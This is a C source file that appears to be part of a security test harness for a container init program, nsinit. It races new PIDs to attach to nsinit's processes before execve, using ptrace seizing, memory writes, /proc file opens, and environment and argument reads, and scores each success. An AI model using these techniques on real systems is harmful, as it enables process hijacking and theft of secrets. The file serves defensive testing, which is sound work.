/*
 * hunt.c - catch a process of nsinit's that comes into this PID namespace, before its execve(2)
 * Until then /proc/PID/exe is nsinit. The numbers that come next are tried without a pause.
 */
#include "attacker.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { WINDOW = 8, DONE_COUNT = 256, STOP_WAIT_MS = 300 };

struct hunt {
    struct score *score;
    struct stat nsinit;
    uint64_t own_capabilities[2]; /* permitted, bounding */
    int last_pid;                 /* /proc/sys/kernel/ns_last_pid */
    pid_t next;
    pid_t done[DONE_COUNT];
    bool (*attack)(struct hunt *hunt, pid_t pid); /* false: to be tried again */
};

static bool is_nsinit(const struct hunt *hunt, pid_t pid)
{
    struct stat status;
    char path[64];

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return stat(path, &status) == 0 && status.st_dev == hunt->nsinit.st_dev &&
           status.st_ino == hunt->nsinit.st_ino;
}

/* ---- what a seized process has ------------------------------------------------------------ */

/* The line of /proc/PID/status that begins so, as a number. */
static uint64_t status_value(pid_t pid, const char *name, int base)
{
    char path[64];
    char line[256];
    uint64_t value = 0;
    FILE *file;

    snprintf(path, sizeof path, "/proc/%d/status", pid);
    file = fopen(path, "re");
    while (file != NULL && fgets(line, sizeof line, file) != NULL)
        if (strncmp(line, name, strlen(name)) == 0)
            value = strtoull(line + strlen(name), NULL, base);
    if (file != NULL)
        fclose(file);
    return value;
}

/* Descriptors that lead to files: the link and pipes and sockets of its stdio do not count. */
static int count_files(pid_t pid)
{
    char path[64];
    int count = 0;
    struct dirent *entry;
    DIR *directory;

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    directory = opendir(path);
    while (directory != NULL && (entry = readdir(directory)) != NULL) {
        struct stat status;

        if (entry->d_name[0] != '.' && fstatat(dirfd(directory), entry->d_name, &status, 0) == 0)
            count += S_ISDIR(status.st_mode) || S_ISREG(status.st_mode);
    }
    if (directory != NULL)
        closedir(directory);
    return count;
}

static bool has_secret(pid_t pid)
{
    static const char secret[] = "ATTACK_SECRET=";
    static char content[64 * 1024];
    char path[64];
    ssize_t size;
    int fd;

    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    size = fd < 0 ? 0 : read(fd, content, sizeof content);
    if (fd >= 0)
        close(fd);
    return size > 0 && memmem(content, (size_t)size, secret, sizeof secret - 1) != NULL;
}

static void describe(const struct hunt *hunt, pid_t pid, const char *what)
{
    char how[HOW_SIZE];

    snprintf(how, sizeof how, "%s, uid %" PRIu64 ", %d files or directories%s", what,
             status_value(pid, "Uid:", 10), count_files(pid),
             has_secret(pid) ? ", nsinit's environment" : "");
    score_success(hunt->score, how);
}

static void judge_seized(struct hunt *hunt, pid_t pid)
{
    describe(hunt, pid, "seized");
}

/* It has more than the service it visits, which may trace it by its capabilities. */
static void judge_rights(struct hunt *hunt, pid_t pid)
{
    uint64_t permitted = status_value(pid, "CapPrm:", 16);
    uint64_t bounding = status_value(pid, "CapBnd:", 16);

    if ((permitted & ~hunt->own_capabilities[0]) != 0 ||
        (bounding & ~hunt->own_capabilities[1]) != 0)
        describe(hunt, pid, "seized with more capabilities");
    else if (count_files(pid) > 0)
        describe(hunt, pid, "seized with files");
    else if (has_secret(pid))
        describe(hunt, pid, "seized with its environment");
}

/* The address of the arguments: proc(5), 48th in /proc/PID/stat; 0 when it is hidden. */
static uintptr_t arguments_of(pid_t pid)
{
    char path[64];
    char line[2048];
    char *at;
    FILE *file;

    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    file = fopen(path, "re");
    at = file != NULL && fgets(line, sizeof line, file) != NULL ? strrchr(line, ')') : NULL;
    if (file != NULL)
        fclose(file);
    for (int field = 2; at != NULL && field < 48; field++)
        at = strchr(at + 1, ' ');
    return at != NULL ? (uintptr_t)strtoull(at, NULL, 10) : 0;
}

static int first_letter_of_init(void)
{
    char letter = '\0';
    int fd = open("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);

    if (fd >= 0 && read(fd, &letter, 1) != 1)
        letter = '\0';
    if (fd >= 0)
        close(fd);
    return letter;
}

/* Write into its memory, and look whether it is nsinit's: the arguments of PID 1 change. */
static void judge_memory(struct hunt *hunt, pid_t pid)
{
    uintptr_t address = arguments_of(pid);
    int letter = first_letter_of_init();
    long word;

    if (address == 0)
        return;
    errno = 0;
    word = ptrace(PTRACE_PEEKDATA, pid, (void *)address, NULL);
    if (errno != 0 || ptrace(PTRACE_POKEDATA, pid, (void *)address, (void *)(word ^ 1)) < 0)
        return;
    if (first_letter_of_init() != letter)
        describe(hunt, pid, "nsinit's own memory written");
    (void)ptrace(PTRACE_POKEDATA, pid, (void *)address, (void *)word);
}

/* ---- the ways ----------------------------------------------------------------------------- */

/* False when it has ended meanwhile. */
static bool wait_stopped(pid_t pid)
{
    const struct timespec pause = {.tv_nsec = 100 * 1000};
    int status;

    for (int i = 0; i < STOP_WAIT_MS * 10; i++) {
        pid_t result = waitpid(pid, &status, WNOHANG | __WALL);

        if (result != 0)
            return result > 0 && WIFSTOPPED(status);
        nanosleep(&pause, NULL);
    }
    return false;
}

static bool seize(struct hunt *hunt, pid_t pid, void (*judge)(struct hunt *hunt, pid_t pid))
{
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return false;
    (void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    /* One that does not stop in time, as it waits for a child, is ours all the same. */
    (void)wait_stopped(pid);
    if (is_nsinit(hunt, pid))
        judge(hunt, pid);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return true;
}

static bool attack_by_seizing(struct hunt *hunt, pid_t pid)
{
    return seize(hunt, pid, judge_seized);
}

static bool attack_for_rights(struct hunt *hunt, pid_t pid)
{
    return seize(hunt, pid, judge_rights);
}

static bool attack_memory(struct hunt *hunt, pid_t pid)
{
    return seize(hunt, pid, judge_memory);
}

/* A file in its /proc, opened while it was nsinit: it still is afterwards. */
static bool attack_by_peeking(struct hunt *hunt, pid_t pid)
{
    static const struct {
        const char *name;
        int flags;
    } files[] = {{"mem", O_RDWR}, {"environ", O_RDONLY}, {"fd", O_RDONLY | O_DIRECTORY}};
    bool opened = false;

    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        char path[64];
        int fd;

        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i].name);
        fd = open(path, files[i].flags | O_CLOEXEC);
        if (fd < 0)
            continue;
        close(fd);
        opened = true;
        if (is_nsinit(hunt, pid)) {
            describe(hunt, pid, files[i].name);
            return true;
        }
    }
    return opened;
}

/* All may read these (proc(5)); they are nsinit's own until it executes a program. */
static bool attack_arguments(struct hunt *hunt, pid_t pid)
{
    static const char secret[] = "ATTACK_ARGUMENT=";
    char content[4096];
    char path[64];
    ssize_t size;
    int fd;

    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    size = fd < 0 ? 0 : read(fd, content, sizeof content);
    if (fd >= 0)
        close(fd);
    if (size <= 0 || memmem(content, (size_t)size, secret, sizeof secret - 1) == NULL)
        return false;
    score_success(hunt->score, "nsinit's arguments read");
    return true;
}

/* ---- the hunt ----------------------------------------------------------------------------- */

static void update_last_pid(struct hunt *hunt)
{
    char text[24];
    ssize_t size = pread(hunt->last_pid, text, sizeof text - 1, 0);
    pid_t last;

    if (size <= 0)
        return;
    text[size] = '\0';
    last = (pid_t)strtol(text, NULL, 10);
    if (last - hunt->next > WINDOW / 2)
        hunt->next = last - WINDOW / 2;
}

static _Noreturn void hunt_for_ever(struct hunt *hunt)
{
    for (;;) {
        update_last_pid(hunt);
        for (pid_t pid = hunt->next; pid < hunt->next + WINDOW; pid++)
            if (pid != getpid() && hunt->done[pid % DONE_COUNT] != pid && hunt->attack(hunt, pid))
                hunt->done[pid % DONE_COUNT] = pid;
    }
}

static int hunt_by(struct score *score, char **words, bool (*attack)(struct hunt *hunt, pid_t pid))
{
    static struct hunt hunt;

    hunt = (struct hunt){.score = score, .next = getpid() + 1, .attack = attack};
    if (stat(words[0], &hunt.nsinit) < 0) {
        perror(words[0]);
        return EXIT_FAILURE;
    }
    hunt.own_capabilities[0] = status_value(getpid(), "CapPrm:", 16);
    hunt.own_capabilities[1] = status_value(getpid(), "CapBnd:", 16);
    hunt.last_pid = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    score->prepared = 1;
    hunt_for_ever(&hunt);
}

int hunt_seize(struct score *score, char **words)
{
    return hunt_by(score, words, attack_by_seizing);
}

int hunt_peek(struct score *score, char **words)
{
    return hunt_by(score, words, attack_by_peeking);
}

int hunt_arguments(struct score *score, char **words)
{
    return hunt_by(score, words, attack_arguments);
}

int hunt_rights(struct score *score, char **words)
{
    return hunt_by(score, words, attack_for_rights);
}

int hunt_memory(struct score *score, char **words)
{
    return hunt_by(score, words, attack_memory);
}
